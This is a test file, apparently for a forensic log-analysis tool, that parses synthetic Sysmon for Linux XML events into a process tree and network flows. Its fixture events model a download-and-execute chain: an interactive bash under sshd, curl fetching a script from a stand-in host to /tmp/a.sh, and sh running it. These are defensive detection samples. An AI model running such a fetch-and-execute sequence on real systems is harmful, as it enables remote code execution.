@@ -1,0 +1,90 @@
+/**
+ * Sysmon for Linux's own output: `<Event>` XML with provider `Linux-Sysmon` (the same event ids and EventData names as
+ * Windows' Sysmon), as event XML (`journalctl -o cat`, an `.xml`). Read into a Get-WinEvent export's
+ * columns, mapped as Sysmon 1 (process) and 3 (networkFlow), and built into a tree linked by the GUIDs.
+ */
+import assert from "node:assert/strict";
+import path from "node:path";
+import { describe, it } from "node:test";
+import pl from "nodejs-polars";
+import { buildProcessTree } from "../../../src/index";
+import { readDataFile } from "../../../src/data/readers";
+import { normalizeEvents } from "../../../src/data/schemas/index";
+import { tempTree } from "../../helpers/tmp";
+
+const col = (df: pl.DataFrame, name: string) => df.getColumn(name).toArray() as unknown[];
+const GUID = (n: number) => `{3b4c1a60-1111-6570-0000-00000000000${n}}`;
+
+/** Sysmon for Linux's System element (as its `sysmon` writes it to syslog: one line, no white space). */
+const system = (id: number, record: number, time: string) =>
+  `<System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>${id}</EventID><Version>5</Version><Level>4</Level>` +
+  `<Task>${id}</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="${time}"/><EventRecordID>${record}</EventRecordID>` +
+  `<Correlation/><Execution ProcessID="812" ThreadID="812"/><Channel>Linux-Sysmon/Operational</Channel><Computer>web01</Computer><Security UserId="0"/></System>`;
+const data = (fields: Record<string, string | number>) =>
+  "<EventData>" + Object.entries(fields).map(([k, v]) => `<Data Name="${k}">${v}</Data>`).join("") + "</EventData>";
+const event = (id: number, record: number, time: string, fields: Record<string, string | number>) =>
+  `<Event>${system(id, record, time)}${data({ RuleName: "-", UtcTime: time.replace("T", " ").slice(0, 23), ...fields })}</Event>`;
+
+/** Event 1: `pid` running `image` under `ppid` (GUIDs by pid's last digit). */
+const proc = (record: number, time: string, n: number, image: string, cmd: string, parent: number, parentImage: string) =>
+  event(1, record, time, {
+    ProcessGuid: GUID(n), ProcessId: 1230 + n, Image: image, FileVersion: "-", Description: "-", Product: "-", Company: "-", OriginalFileName: "-",
+    CommandLine: cmd, CurrentDirectory: "/root", User: "root", LogonGuid: "{3b4c1a60-0000-0000-0000-000000000000}", LogonId: 0, TerminalSessionId: 3,
+    IntegrityLevel: "no level", Hashes: "-", ParentProcessGuid: GUID(parent), ParentProcessId: 1230 + parent, ParentImage: parentImage, ParentCommandLine: "-", ParentUser: "root",
+  });
+
+const EVENTS = [
+  proc(10, "2026-12-07T08:15:00.123456000Z", 1, "/usr/bin/bash", "bash -i", 0, "/usr/sbin/sshd"),
+  proc(11, "2026-12-07T08:15:02.000001000Z", 2, "/usr/bin/curl", "curl -s http://x.test/a.sh?a=1&amp;b=&lt;2&gt;", 1, "/usr/bin/bash"),
+  event(3, 12, "2026-12-07T08:15:03.500000000Z", {
+    ProcessGuid: GUID(2), ProcessId: 1232, Image: "/usr/bin/curl", User: "root", Protocol: "tcp", Initiated: "true", SourceIsIpv6: "false", SourceIp: "10.0.0.5",
+    SourceHostname: "-", SourcePort: 51000, SourcePortName: "-", DestinationIsIpv6: "false", DestinationIp: "203.0.113.9", DestinationHostname: "-", DestinationPort: 80, DestinationPortName: "-",
+  }),
+  event(11, 13, "2026-12-07T08:15:04.000000000Z", { ProcessGuid: GUID(2), ProcessId: 1232, Image: "/usr/bin/curl", TargetFilename: "/tmp/a.sh", CreationUtcTime: "2026-12-07 08:15:04.000", User: "root" }),
+  proc(14, "2026-12-07T08:15:05.000000000Z", 3, "/usr/bin/sh", "sh /tmp/a.sh", 1, "/usr/bin/bash"),
+  event(5, 15, "2026-12-07T08:15:06.000000000Z", { ProcessGuid: GUID(2), ProcessId: 1232, Image: "/usr/bin/curl", User: "root" }),
+];
+function read(name: string, content: string | Buffer, warnings: string[] = []): pl.DataFrame {
+  return readDataFile(path.join(tempTree({ [name]: content }), name), { warn: (m) => warnings.push(m) });
+}
+
+/** The checks every form of the same six events passes: rows, times, the process tree, the network flow. */
+function checkEvents(df: pl.DataFrame): void {
+  assert.deepEqual(col(df, "ProviderName"), Array(6).fill("Linux-Sysmon"));
+  assert.deepEqual(col(df, "Id"), [1, 1, 3, 11, 1, 5]);
+  // The event's own time (its year), not syslog's year-less prefix.
+  assert.equal((col(df, "TimeCreated")[0] as Date).toISOString(), "2026-12-07T08:15:00.123Z");
+  assert.equal(col(df, "CommandLine")[1], "curl -s http://x.test/a.sh?a=1&b=<2>");
+  assert.equal(col(df, "TargetFilename")[3], "/tmp/a.sh");
+  const warnings: string[] = [];
+  const procs = normalizeEvents(df, "process", { warn: (m) => warnings.push(m) });
+  assert.deepEqual(col(procs, "NewProcessName"), ["/usr/bin/bash", "/usr/bin/curl", "/usr/bin/sh"]);
+  assert.deepEqual(col(procs, "ParentProcessName"), ["/usr/sbin/sshd", "/usr/bin/bash", "/usr/bin/bash"]);
+  // Events 11 and 5 are read as rows, and counted as no query's (as Windows Sysmon's 11 and 5 are).
+  assert.ok(warnings.some((w) => /2 row\(s\) of events no lab query maps .*Linux-Sysmon 11 \(1\), Linux-Sysmon 5 \(1\)/.test(w)), warnings.join("\n"));
+  const tree = buildProcessTree(df, { warn: () => undefined });
+  const byImage = new Map((col(tree, "Image") as string[]).map((image, i) => [image, i]));
+  const keys = col(tree, "proc_key"), parents = col(tree, "parent_key"), levels = col(tree, "Level");
+  const parentOf = (image: string) => parents[byImage.get(image)!];
+  assert.equal(parentOf("/usr/bin/curl"), keys[byImage.get("/usr/bin/bash")!]);
+  assert.equal(parentOf("/usr/bin/sh"), keys[byImage.get("/usr/bin/bash")!]);
+  assert.equal(parentOf("/usr/bin/bash"), keys[byImage.get("/usr/sbin/sshd")!]);
+  assert.deepEqual([levels[byImage.get("/usr/sbin/sshd")!], levels[byImage.get("/usr/bin/bash")!], levels[byImage.get("/usr/bin/curl")!]], [1, 2, 3]);
+  assert.equal(tree.height, 4, "sshd (inferred), bash, curl, sh");
+  const flows = normalizeEvents(df, "networkFlow", { warn: () => undefined });
+  assert.deepEqual([col(flows, "SrcIP"), col(flows, "DestIP"), col(flows, "DestPort"), col(flows, "VMName")], [["10.0.0.5"], ["203.0.113.9"], [80], ["web01"]]);
+}
+
+describe("Sysmon for Linux events (provider Linux-Sysmon)", () => {
+  it("as event XML (journalctl -o cat into an .xml): Sysmon 1 processes, their tree by GUID, Sysmon 3 flows", () => {
+    checkEvents(read("sysmon.xml", EVENTS.join("\n") + "\n"));
+  });
+
+  it("a Windows host's Sysmon and a Linux host's in one frame: both hosts' processes", () => {
+    const windows = proc(20, "2026-12-07T09:00:00.000000000Z", 4, "C:\\Windows\\System32\\cmd.exe", "cmd", 5, "C:\\Windows\\explorer.exe")
+      .replace("Linux-Sysmon", "Microsoft-Windows-Sysmon")
+      .replace("<Computer>web01</Computer>", "<Computer>WS01</Computer>");
+    const procs = normalizeEvents(read("both.xml", [...EVENTS, windows].join("\n")), "process", { warn: () => undefined });
+    assert.deepEqual(col(procs, "Computer"), ["web01", "web01", "web01", "WS01"]);
+  });
+});
